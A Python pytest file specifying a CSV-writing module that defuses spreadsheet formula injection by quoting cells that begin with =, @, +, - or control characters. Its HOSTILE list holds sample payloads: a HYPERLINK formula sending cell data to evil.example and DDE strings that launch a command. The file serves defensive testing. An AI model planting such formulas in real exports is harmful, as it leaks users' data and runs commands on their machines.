"""Specification of identity.csv_safe: no CSV we write runs as a formula in a spreadsheet."""

import csv
import io

import pytest

from identity import csv_safe

# A cell that starts with any of these is run by Excel, LibreOffice or Google Sheets (OWASP).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3",
    "+2+3",
    "\t=1+1",
    "\r=1+1",
]


def written(*rows: list[object]) -> list[list[str]]:
    out = io.StringIO()
    csv_safe.writer(out, lineterminator="\r\n").writerows(rows)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_cell_is_written_as_text(value: str) -> None:
    """Prevents CSV injection: a hostile register cell copied into a report must not run."""
    [row] = written([7, "a reason", value])
    assert row == ["7", "a reason", "'" + value]


@pytest.mark.parametrize(
    "value", ["Fatima Al-Kandari", "فاطمة", "288020122596", "a=b", " =1", "'quoted", ""]
)
def test_other_cells_are_written_as_they_are(value: str) -> None:
    assert written([value]) == [[value]]


def test_numbers_and_none_are_left_to_the_csv_module() -> None:
    assert written([3, -2, None]) == [["3", "-2", ""]]


@pytest.mark.parametrize(
    "value", [*HOSTILE, "Fatima", "'Ali", "'", "", "'=1+1", "''-2", "'" * 5000 + "=1"]
)
def test_restore_reads_back_exactly_what_was_written(value: str) -> None:
    [row] = written([value])
    assert csv_safe.restore_row(row) == [value]
